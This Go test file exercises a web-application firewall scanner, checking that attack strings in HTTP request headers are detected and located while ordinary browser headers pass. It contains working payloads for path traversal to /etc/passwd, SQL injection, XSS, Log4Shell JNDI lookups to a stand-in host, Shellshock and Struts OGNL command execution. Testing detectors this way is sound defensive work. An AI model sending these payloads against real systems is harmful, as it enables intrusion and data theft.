package scan_test

import (
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan"
)

func judgeHead(policy *scan.Policy, lines string) scan.Result {
	var scanner scan.Scanner
	return scanner.Head(policy, []byte(lines))
}

func TestAttacksInAHeadAreFoundWhereTheyStand(t *testing.T) {
	t.Parallel()
	const sqli = "' UNION SELECT password FROM users--"
	for name, c := range map[string]struct {
		head       string
		kind, text string
	}{
		"in the path":                           {":path:/a/..%2f..%2f..%2fetc/passwd", "path_traversal", "/a/..%2f..%2f..%2fetc/passwd"},
		"in a parameter":                        {":path:/a?x=1&id=1" + sqli + "&y=2", "sqli", "1" + sqli},
		"in an encoded parameter":               {":path:/a?id=1'+UNION+SELECT+password+FROM+users--", "sqli", "1'+UNION+SELECT+password+FROM+users--"},
		"in a parameter behind a semicolon":     {":path:/a?x=1;id='+or+1=1--", "sqli", "'+or+1=1--"},
		"in a parameter's name":                 {":path:/a?1'+UNION+SELECT+password+FROM+users--=1", "sqli", "1'+UNION+SELECT+password+FROM+users--"},
		"in JSON in a parameter":                {":path:/g?variables=%7B%22id%22:%22'+or+1=1--%22%7D", "sqli", "'+or+1=1--"},
		"in a cookie":                           {"cookie:a=b; id=1%27%20or%201=1--; c=d", "sqli", "1%27%20or%201=1--"},
		"in a quoted cookie":                    {`cookie:a=b; id="' or 1=1--"; c=d`, "sqli", "' or 1=1--"},
		"behind a semicolon in a quoted cookie": {`cookie:a=b; id="1; UNION SELECT password FROM users--"; c=d`, "sqli", "1; UNION SELECT password FROM users--"},
		"in the referrer":                       {"referer:https://a.example/?q=<script>alert(1)</script>", "xss", "<script>alert(1)</script>"},
		"in a field that nobody knows":          {"x-api-version:${jndi:ldap://a.example/x}", "log4shell", "${jndi:ldap://a.example/x}"},
		"in the user agent":                     {"user-agent:() { :; }; /bin/cat /etc/passwd", "shellshock", "() { :; }; /bin/cat /etc/passwd"},
		"in the content type":                   {"content-type:%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}", "ssti", "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"},
		"in the host":                           {":authority:${jndi:ldap://a.example/x}", "log4shell", "${jndi:ldap://a.example/x}"},
		"in the last of many long parameters":   {":path:/?" + strings.Repeat("a=b&", 9000) + "q=" + strings.Repeat("x ", 17000) + sqli, "sqli", sqli},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			lines := ":method:GET\n" + c.head + "\naccept:*/*\n"
			result := judgeHead(scan.Strict(), lines)
			if result.Verdict != scan.Block || !hasType(result, c.kind) {
				t.Fatalf("%+v", result)
			}
			at := strings.Index(lines, c.text)
			for _, f := range result.Findings {
				if f.Start < at || f.End > at+len(c.text) {
					t.Errorf("%s is %q", f.Type, lines[f.Start:f.End])
				}
			}
		})
	}
}

func TestCredentialsAndPersonalDataInAHeadAreLeftAlone(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"authorization:Bearer ' UNION SELECT password FROM users--",
		":path:/users/jane@example.com?card=4111111111111111",
		"cookie:id=4111111111111111; mail=jane%40example.com",
	} {
		if result := judgeHead(everything(), line+"\n"); len(result.Findings) > 0 {
			t.Errorf("%s: %+v", line, result.Findings)
		}
	}
}

func TestAHeadThatIsTooLongSaysSo(t *testing.T) {
	t.Parallel()
	if result := judgeHead(scan.Strict(), "x:"+strings.Repeat("y", scan.MaxHeadBytes)); !result.Oversize {
		t.Errorf("%+v", result)
	}
}

// ordinaryHead is a browser's.
const ordinaryHead = ":method:GET\n:path:/items/42?page=2&sort=name&q=caf%C3%A9+au+lait&utm_source=newsletter\n:scheme:https\n:authority:shop.example.com\n" +
	"user-agent:Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\n" +
	"accept:text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8\n" +
	"accept-language:de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7\naccept-encoding:gzip, deflate, br, zstd\n" +
	"referer:https://shop.example.com/items?category=shoes&size=42\n" +
	"cookie:sid=8f14e45fceea167a5a36dedd4bea2543; theme=dark; _ga=GA1.2.1234567890.1600000000; consent=%7B%22ads%22%3Afalse%7D\n" +
	"sec-ch-ua:\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"\nsec-ch-ua-mobile:?0\nsec-fetch-site:same-origin\n" +
	"x-forwarded-for:203.0.113.7, 10.0.0.3\nx-request-id:0b9e8d1c-3c1f-4a43-9d43-6f6d2f1f8a2b\n" +
	"traceparent:00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\nif-none-match:W/\"5f3c-178e2b6a4c8\"\nupgrade-insecure-requests:1\n"

// BenchmarkHead judges heads of clients that are known, and of ever new ones.
func BenchmarkHead(b *testing.B) {
	policy := scan.Strict()
	for name, browsers := range map[string]int{"known": 1, "new": 256} {
		b.Run(name, func(b *testing.B) {
			var scanner scan.Scanner
			var heads [256][]byte
			for i := range heads {
				heads[i] = []byte(strings.ReplaceAll(strings.ReplaceAll(ordinaryHead, "126", strconv.Itoa(100+i%browsers)), "=0.", "=0."+strconv.Itoa(i%browsers)))
			}
			b.ReportAllocs()
			start, n := cpuTime(b), 0
			for b.Loop() {
				if result := scanner.Head(policy, heads[n%len(heads)]); len(result.Findings) > 0 {
					b.Fatal(result.Findings)
				}
				n++
			}
			b.ReportMetric(float64((cpuTime(b)-start).Nanoseconds())/float64(b.N), "cpu-ns/op")
		})
	}
}

func TestOrdinaryHeadsPass(t *testing.T) {
	t.Parallel()
	lines, err := os.ReadFile("testdata/heads.txt")
	if err != nil {
		t.Fatal(err)
	}
	for _, profile := range scan.Profiles() {
		policy := scan.Strict()
		policy.Profile = profile
		for line := range strings.Lines(string(lines) + ordinaryHead) {
			if result := judgeHead(policy, line); len(result.Findings) > 0 {
				t.Errorf("%s: %s%+v", profile, line, result.Findings)
			}
		}
	}
}
